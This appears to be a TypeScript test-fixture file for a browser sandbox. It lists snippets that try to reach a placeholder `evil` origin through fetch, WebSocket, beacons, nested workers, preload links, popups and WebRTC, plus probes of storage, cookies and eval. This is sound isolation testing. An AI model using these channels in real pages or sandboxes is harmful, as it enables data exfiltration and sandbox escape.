/** Bodies of async functions over `evil` (an origin) and `udp` (a port): roads by which something could leave a worker. */
export const waysOut: Readonly<Record<string, string>> = {
  fetch: "await fetch(evil + '/fetch', { mode: 'no-cors' })",
  xhr: "await settled((tell) => { const x = new XMLHttpRequest(); x.onloadend = tell; x.open('GET', evil + '/xhr'); x.send() })",
  socket:
    "await settled((tell) => { const s = new WebSocket(evil.replace('http', 'ws') + '/socket'); s.onerror = s.onclose = tell })",
  stream:
    "await settled((tell) => { const s = new EventSource(evil + '/stream'); s.onerror = s.onopen = () => { s.close(); tell() } })",
  importScripts: "importScripts(evil + '/imported.js')",
  import: "await import(evil + '/module.js')",
  font: "await new FontFace('x', 'url(' + evil + '/font)').load()",
  workerByUrl:
    "await settled((tell) => { const w = new Worker(evil + '/worker.js'); w.onmessage = w.onerror = tell })",
  workerInBlob:
    'await settled((tell) => { const w = new Worker(URL.createObjectURL(new Blob([\'fetch("\' + evil + \'/nested-in-blob", { mode: "no-cors" }).finally(() => postMessage(1))\']))); w.onmessage = w.onerror = tell })',
  workerInData:
    "await settled((tell) => { const w = new Worker('data:text/javascript,' + encodeURIComponent('fetch(\"' + evil + '/nested-in-data\", { mode: \"no-cors\" }).finally(() => postMessage(1))')); w.onmessage = w.onerror = tell })",
}

const appended = (tag: string, fields: string): string =>
  `document.head.append(Object.assign(document.createElement('${tag}'), { ${fields} }))`

/** What a page only has to name for the browser to go there; `udp` is a port for connections as well. */
export const namesInPage: Readonly<Record<string, string>> = {
  prefetch: appended('link', "rel: 'prefetch', href: evil + '/link-prefetch'"),
  preload: appended('link', "rel: 'preload', as: 'script', href: evil + '/link-preload'"),
  modulepreload: appended('link', "rel: 'modulepreload', href: evil + '/link-modulepreload'"),
  stylesheet: appended('link', "rel: 'stylesheet', href: evil + '/link-stylesheet'"),
  preconnect: appended('link', "rel: 'preconnect', href: 'http://127.0.0.1:' + udp"),
  script: appended('script', "src: evil + '/tag-script'"),
  image: "await settled((tell) => { new Image().src = evil + '/tag-image'; tell() })",
  frame:
    "document.body.append(Object.assign(document.createElement('iframe'), { src: evil + '/tag-frame' }))",
}

/** Roads that only a page has; the last one leaves it. */
export const waysOutOfPage: Readonly<Record<string, string>> = {
  ...namesInPage,
  stun: "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
  beacon: "if (!navigator.sendBeacon(evil + '/beacon', 'x')) throw new Error('refused')",
  popup: "if (!open(evil + '/popup')) throw new Error('refused')",
  navigation: "location.href = evil + '/navigation'",
}

/** What a worker of the page's origin may have, and must throw anywhere else. */
export const belongings: Readonly<Record<string, string>> = {
  indexedDB:
    "await new Promise((tell, no) => { const r = indexedDB.open('x'); r.onsuccess = tell; r.onerror = () => no(r.error) })",
  files: 'await navigator.storage.getDirectory()',
  caches: "await caches.open('x')",
  locks: "await navigator.locks.request('x', () => 1)",
  eval: "(0, eval)('1 + 1')",
  Function: "Function('return 1')()",
  timerText: "await settled((tell) => { globalThis.told = tell; setTimeout('told()') }, 300)",
  wasm: 'await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
}

/** What only a page of that origin has. */
export const belongingsOfPage: Readonly<Record<string, string>> = {
  localStorage: "localStorage.setItem('x', '1')",
  cookie: "document.cookie = 'x=1'; if (!document.cookie.includes('x=1')) throw new Error('none')",
  serviceWorker: "await navigator.serviceWorker.register('x.js')",
  parentPage: "parent.document.body.append('x')",
}

/** A function's text that tries each and tells, by name, `worked` or why not. */
export const attackText = (bodies: Readonly<Record<string, string>>): string => `
async (evil, udp) => {
  const settled = (start, within = 1500) => new Promise((tell, no) => {
    setTimeout(no, within, new Error('nothing happened'))
    start(tell)
  })
  const told = {}
  const tries = {${Object.entries(bodies)
    .map(([name, body]) => `${name}: async () => { ${body} }`)
    .join()}}
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); told[name] = 'worked' } catch (error) { told[name] = String(error) }
  }
  return told
}`
